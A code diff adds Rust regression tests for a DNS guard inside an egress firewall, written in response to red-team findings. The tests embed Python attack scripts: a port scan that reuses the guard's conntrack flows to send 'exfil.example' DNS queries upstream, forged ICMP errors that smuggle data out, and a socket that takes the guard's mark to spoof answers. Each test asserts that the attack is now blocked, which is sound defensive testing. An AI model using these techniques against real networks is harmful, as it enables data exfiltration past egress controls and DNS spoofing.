@@ -1,6 +1,8 @@
 //! The DNS guard under attack from inside the fence: its uid is no pass to the upstream
 //! resolvers (item 3), the bytes it forwards are its own (item 9), and one client cannot
-//! starve the others (item 10).
+//! starve the others (item 10). Red-team review 2: nobody reuses the guard's closed upstream
+//! flows, over UDP or with ICMP errors, and a squatter that sets the guard's mark answers
+//! nobody.
 
 use std::net::IpAddr;
 use std::time::Duration;
@@ -775,4 +777,374 @@ fn a_squatter_on_the_guards_address_answers_nobody() {
             guard.stderr()
         );
     }
+}
+
+/// Asks the guard an allowed name (so it opens, uses and closes an upstream socket), then
+/// binds every free local port in turn and sends a question for a name outside the policy
+/// straight to the upstream resolver (argv[1]; argv[2] "6" for an IPv6 socket). A port
+/// without a conntrack entry is refused at once; the guard's closed port still had an
+/// established entry. Prints "LEAK via port P" for each answer it gets.
+const REUSE_GUARD_FLOW: &str = r#"
+import socket, struct, time
+upstream, family = sys.argv[1], sys.argv[2]
+def q(name, qid):
+    qname = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
+    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + qname + struct.pack(">HH", 16, 1)
+c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+c.settimeout(3)
+c.sendto(q("via-guard.pool.example", 1), ("127.0.0.53", 53))
+print('guard answered', len(c.recv(2000)), flush=True)
+lo, hi = map(int, open('/proc/sys/net/ipv4/ip_local_port_range').read().split())
+af, anywhere = (socket.AF_INET6, '::') if family == '6' else (socket.AF_INET, '0.0.0.0')
+found = 0
+for port in range(lo, hi + 1):
+    s = socket.socket(af, socket.SOCK_DGRAM)
+    try:
+        s.bind((anywhere, port))
+        s.sendto(q("secret-%d.exfil.example" % port, 0x4141), (upstream, 53))
+    except OSError:
+        s.close(); continue
+    s.settimeout(2)
+    try:
+        data = s.recv(2000)
+        print('LEAK via port', port, 'answer of', len(data), 'bytes', flush=True)
+        found += 1
+        for i in range(3):
+            s.sendto(q("more-%d.exfil.example" % i, 0x4142 + i), (upstream, 53))
+            print('  round trip', i, len(s.recv(2000)), flush=True)
+    except OSError as e:
+        print('port', port, 'sent but', e, flush=True)
+    s.close()
+    if found:
+        break
+print('scan done, found', found, flush=True)
+"#;
+
+/// Red team 2, F1: the guard's upstream flows outlive its sockets (conntrack keeps a replied
+/// UDP flow established for about 30 s), and `ct state established,related accept` came
+/// before the rule that lets only the guard ask: uid nobody, or root without CAP_NET_ADMIN and
+/// CAP_NET_RAW, found the guard's old port by binding every free port and asked the IPv4 or
+/// IPv6 upstream whatever it liked, renewing the flow with every packet. Now what goes to an
+/// upstream from another uid, or from the guard's uid without its mark, is refused before the
+/// replies are accepted; the guard keeps answering over UDP and TCP. On the old main the
+/// upstream's log held the `exfil` names.
+#[test]
+fn nobody_reuses_the_guards_closed_upstream_flows() {
+    let script = format!("{REFUSE_CAP_NET_ADMIN_PY}{REUSE_GUARD_FLOW}");
+    for upstream in [DNS_V4, DNS_V6] {
+        let w = World::new();
+        w.dns_set("via-guard.pool.example", &[HOST2_V4], DEFAULT_DNS_TTL);
+        let path = w.write_file("guard.yaml", &guard_policy(&[upstream]));
+        let guard = w.spawn_guard(path.to_str().expect("utf-8 path"));
+        let (up, family) = (
+            upstream.to_string(),
+            if upstream.is_ipv6() { "6" } else { "4" },
+        );
+        for who in [Adversary::Nobody, Adversary::RootWithoutNetAdminOrNetRaw] {
+            let before = w.dns_query_log().len();
+            let out = w.adversary_cmd(who, &[PYTHON, "-c", &script, &up, family]);
+            assert!(
+                out.stdout.contains("guard answered") && out.stdout.contains("scan done"),
+                "{who:?} via {upstream}: the scan did not run:\n{out}"
+            );
+            let asked = w.dns_query_log().split_off(before);
+            let leaked: Vec<&DnsQuery> =
+                asked.iter().filter(|q| q.name.contains("exfil")).collect();
+            assert!(
+                leaked.is_empty() && !out.stdout.contains("LEAK"),
+                "{who:?} asked the upstream {upstream} through the guard's old flow: \
+                 {leaked:?}\n{out}"
+            );
+            for tcp in [false, true] {
+                assert!(
+                    guard_answers(
+                        &w,
+                        Who::Adversary(Adversary::Nobody),
+                        "via-guard.pool.example",
+                        tcp
+                    ),
+                    "the guard still answers (tcp: {tcp}, upstream {upstream}):\n{}",
+                    guard.stderr()
+                );
+            }
+        }
+    }
+}
+
+/// A uid of its own for the guard (systemd's DynamicUser= range; no user has it here).
+const GUARD_UID: u32 = 61_234;
+
+/// `egress-fence run POLICY` in the sandbox as uid and gid [`GUARD_UID`] with CAP_NET_ADMIN
+/// and CAP_NET_BIND_SERVICE kept as ambient capabilities (like the systemd unit's dynamic
+/// user, which tests/systemd.rs models the same way), once its guard serves.
+fn spawn_guard_as_its_own_user(w: &World, policy: &str) -> Background {
+    let mode = |path: &std::path::Path, mode: u32| {
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode))
+            .unwrap_or_else(|e| panic!("chmod {}: {e}", path.display()));
+    };
+    // The world's directory is root's (0700): let the guard's user through to its files.
+    mode(w.dir(), 0o711);
+    let path = w.write_file("guard.yaml", policy);
+    mode(&path, 0o644);
+    let state = w.dir().join("guard-state");
+    std::fs::create_dir(&state).expect("create the guard's state directory");
+    std::os::unix::fs::chown(&state, Some(GUARD_UID), Some(GUARD_UID))
+        .expect("give the state directory to the guard's user");
+    mode(&state, 0o700);
+    let (uid, caps) = (GUARD_UID.to_string(), "-all,+net_admin,+net_bind_service");
+    let (reuid, regid) = (format!("--reuid={uid}"), format!("--regid={uid}"));
+    let (inh, ambient) = (
+        format!("--inh-caps={caps}"),
+        format!("--ambient-caps={caps}"),
+    );
+    let mut guard = w.spawn_in_sandbox(&[
+        "setpriv",
+        &reuid,
+        &regid,
+        "--clear-groups",
+        &inh,
+        &ambient,
+        "--",
+        EGRESS_FENCE_BIN,
+        "run",
+        path.to_str().expect("utf-8 path"),
+        "--state-dir",
+        state.to_str().expect("utf-8 path"),
+    ]);
+    if !guard.wait_for_output("the DNS guard is serving", Duration::from_secs(10)) {
+        let _ = guard.terminate();
+        panic!("the guard did not start as uid {uid}:\n{}", guard.stderr());
+    }
+    guard
+}
+
+/// Red team 2, F2: since Linux 5.17 CAP_NET_RAW is enough to set `SO_MARK`, so root in a
+/// container with Docker's default capabilities (no CAP_NET_ADMIN) binds the guard's address
+/// while the daemon is down (SIGKILL: its table stays), sets the guard's mark on its sockets
+/// and answers the clients; the rule on the guard's port checked the mark only. The guard
+/// runs under a uid of its own here (as the systemd unit's dynamic user does), and the table
+/// also refuses what leaves its port from another uid's socket: nobody's dig gets no answer
+/// from the squatter, over UDP or TCP, while the guard itself answered both before. (Were
+/// the guard root, the uid could not tell it from root in a container: README, "Only the
+/// guard may answer".) On the old main the client took the squatter's 203.0.113.66.
+#[test]
+fn a_squatter_that_sets_the_guards_mark_answers_nobody() {
+    let w = World::new();
+    let _upstream = slow_upstream(&w, HOST3_V4);
+    let mut guard = spawn_guard_as_its_own_user(&w, &guard_policy(&[HOST3_V4]));
+    for tcp in [false, true] {
+        assert!(
+            guard_answers(&w, Who::Adversary(Adversary::Nobody), "a.pool.example", tcp),
+            "the guard under uid {GUARD_UID} answers (tcp: {tcp}) despite the uid rule:\n{}",
+            guard.stderr()
+        );
+    }
+    guard.signal(nix::sys::signal::Signal::SIGKILL);
+    assert!(
+        guard.wait_timeout(Duration::from_secs(5)).is_some(),
+        "the guard did not die"
+    );
+    assert!(w.table_handle().is_some(), "the guard's table stays");
+    let chain = w.sandbox_cmd(&["nft", "list", "chain", "inet", "egress_fence", "output"]);
+    assert!(
+        chain
+            .stdout
+            .contains(&format!("meta mark 0x65000000 meta skuid {GUARD_UID} ")),
+        "the table names the guard's own uid:\n{chain}"
+    );
+    // The squatter of the test above, with the guard's mark on both of its sockets.
+    let marked = SQUATTER
+        .replace(
+            "u.bind(",
+            "u.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 0x65000000)\nu.bind(",
+        )
+        .replace(
+            "t.bind(",
+            "t.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 0x65000000)\nt.bind(",
+        );
+    assert_eq!(marked.matches("SO_MARK").count(), 2);
+    let script = format!("{REFUSE_CAP_NET_ADMIN_PY}{marked}");
+    let mut squatter = w.spawn_adversary(Adversary::RootWithoutNetAdmin, &[PYTHON, "-c", &script]);
+    assert!(
+        squatter.wait_for_output("squatting", Duration::from_secs(10)),
+        "the squatter did not set the mark or bind: {}",
+        squatter.stderr()
+    );
+    for tcp in [false, true] {
+        let out = dig_output(
+            &w,
+            Who::Adversary(Adversary::Nobody),
+            GUARD_ADDR.ip(),
+            53,
+            "a.pool.example",
+            tcp,
+        );
+        assert!(
+            !out.contains("203.0.113.66") && !out.contains("->>HEADER<<-"),
+            "nobody (tcp: {tcp}) got the marked squatter's answer:\n{out}"
+        );
+    }
+    assert!(
+        squatter.stdout().contains("asked over udp"),
+        "the squatter was asked (its answers were refused): {}\n{}",
+        squatter.stdout(),
+        squatter.stderr()
+    );
+}
+
+/// Asks the guard an allowed name (so it opens, uses and closes an upstream socket), then
+/// writes, from a raw socket, an ICMP port unreachable to the upstream (argv[1]) for each
+/// local port in turn, as if the sandbox (argv[2]) could not deliver the upstream's reply to
+/// it: the one for the guard's old port is related to its flow in conntrack. Each carries the
+/// marker `related-to-the-guard` in the quoted datagram's data, about 1 KB. Prints
+/// `sent N refused M`. Needs CAP_NET_RAW (root in a container keeps it).
+const RELATED_ICMP: &str = r#"
+import socket, struct
+if not cap_eff & (1 << 13):
+    sys.exit('want CAP_NET_RAW without CAP_NET_ADMIN, have %x' % cap_eff)
+upstream, me = sys.argv[1], sys.argv[2]
+def q(name, qid):
+    qname = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
+    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + qname + struct.pack(">HH", 1, 1)
+def checksum(b):
+    if len(b) % 2:
+        b += b"\0"
+    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+    while s >> 16:
+        s = (s & 0xffff) + (s >> 16)
+    return ~s & 0xffff
+c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+c.settimeout(3)
+c.sendto(q("via-guard.pool.example", 1), ("127.0.0.53", 53))
+c.recv(2000)
+raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+data = b"related-to-the-guard " * 48
+lo, hi = map(int, open('/proc/sys/net/ipv4/ip_local_port_range').read().split())
+sent = refused = 0
+for port in range(lo, hi + 1):
+    udp = struct.pack("!HHHH", 53, port, 8 + len(data), 0) + data
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
+                     socket.inet_aton(upstream), socket.inet_aton(me))
+    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
+    icmp = struct.pack("!BBHI", 3, 3, 0, 0) + ip + udp
+    icmp = icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:]
+    try:
+        raw.sendto(icmp, (upstream, 0))
+        sent += 1
+    except PermissionError:
+        refused += 1
+print('sent', sent, 'refused', refused)
+"#;
+
+/// Counts the IPv4 frames arriving on veth0 (the sandbox's link, seen from the world's
+/// network) that carry MARKER, for SECONDS; creates READY_FILE once bound. Prints the count.
+const COUNT_MARKED_V4: &str = r#"
+import socket, sys, time
+seconds, ready, marker = float(sys.argv[1]), sys.argv[2], sys.argv[3].encode()
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
+s.bind(('veth0', 0))
+s.settimeout(0.2)
+open(ready, 'w').close()
+end, count = time.time() + seconds, 0
+while time.time() < end:
+    try:
+        frame, addr = s.recvfrom(65535)
+    except socket.timeout:
+        continue
+    if addr[2] != socket.PACKET_OUTGOING and marker in frame:
+        count += 1
+print(count)
+"#;
+
+/// Red team 2, F1 (its ICMP side): root in a container keeps CAP_NET_RAW and writes ICMP
+/// errors; one that quotes the guard's closed upstream flow is `related` to it in conntrack
+/// and was accepted as a reply, carrying a kilobyte of the writer's choice to the upstream
+/// resolver (and the same works against any peer of any flow in conntrack, e.g. one that
+/// connected in). ICMP a process writes leaves only over loopback now, whatever conntrack
+/// says of it: none of the errors reaches the upstream's link.
+#[test]
+fn icmp_errors_related_to_the_guards_flows_stay_in() {
+    let w = World::new();
+    w.dns_set("via-guard.pool.example", &[HOST2_V4], DEFAULT_DNS_TTL);
+    let path = w.write_file("guard.yaml", &guard_policy(&[DNS_V4]));
+    let _guard = w.spawn_guard(path.to_str().expect("utf-8 path"));
+    let ready = w.dir().join("icmp-capture-ready");
+    let ready_arg = ready.to_str().expect("utf-8 path").to_string();
+    let script = format!("{REFUSE_CAP_NET_ADMIN_PY}{RELATED_ICMP}");
+    let (up, me) = (DNS_V4.to_string(), SANDBOX_V4.to_string());
+    let (capture, written) = std::thread::scope(|scope| {
+        let capture = scope.spawn(|| {
+            w.net_cmd(&[
+                PYTHON,
+                "-c",
+                COUNT_MARKED_V4,
+                "6",
+                &ready_arg,
+                "related-to-the-guard",
+            ])
+        });
+        assert!(
+            within(Duration::from_secs(5), || ready.exists()),
+            "the capture did not start"
+        );
+        let written = w.adversary_cmd(
+            Adversary::RootWithoutNetAdmin,
+            &[PYTHON, "-c", &script, &up, &me],
+        );
+        (capture.join().expect("the capture thread"), written)
+    });
+    assert!(written.success(), "{written}");
+    assert!(
+        written.stdout.starts_with("sent 0 refused "),
+        "an ICMP error left the sandbox: {written}\ncaptured on the upstream's link: {capture}"
+    );
+    assert!(capture.success(), "{capture}");
+    assert_eq!(
+        capture.stdout.trim(),
+        "0",
+        "ICMP errors written by a process reached the upstream's link"
+    );
+}
+
+/// F1 with CAP_NET_RAW: root in a container sets the guard's mark on every socket it scans
+/// with; with the guard under a uid of its own, the uid refusal still keeps it off the
+/// guard's old flows (were the guard root, nothing would tell them apart: README, "Only the
+/// guard may ask").
+#[test]
+fn a_marked_scan_does_not_reuse_the_flows_of_a_guard_with_its_own_uid() {
+    let w = World::new();
+    w.dns_set("via-guard.pool.example", &[HOST2_V4], DEFAULT_DNS_TTL);
+    let guard = spawn_guard_as_its_own_user(&w, &guard_policy(&[DNS_V4]));
+    let marked = REUSE_GUARD_FLOW.replace(
+        "    s = socket.socket(af, socket.SOCK_DGRAM)\n",
+        "    s = socket.socket(af, socket.SOCK_DGRAM)\n    \
+         s.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 0x65000000)\n",
+    );
+    assert!(marked.contains("SO_MARK"));
+    let script = format!("{REFUSE_CAP_NET_ADMIN_PY}{marked}");
+    let before = w.dns_query_log().len();
+    let out = w.adversary_cmd(
+        Adversary::RootWithoutNetAdmin,
+        &[PYTHON, "-c", &script, &DNS_V4.to_string(), "4"],
+    );
+    assert!(
+        out.stdout.contains("scan done"),
+        "the scan did not run:\n{out}"
+    );
+    let asked = w.dns_query_log().split_off(before);
+    assert!(
+        !asked.iter().any(|q| q.name.contains("exfil")) && !out.stdout.contains("LEAK"),
+        "root with the guard's mark asked the upstream through its old flow: {asked:?}\n{out}"
+    );
+    assert!(
+        guard_answers(
+            &w,
+            Who::Adversary(Adversary::Nobody),
+            "via-guard.pool.example",
+            false
+        ),
+        "{}",
+        guard.stderr()
+    );
 }
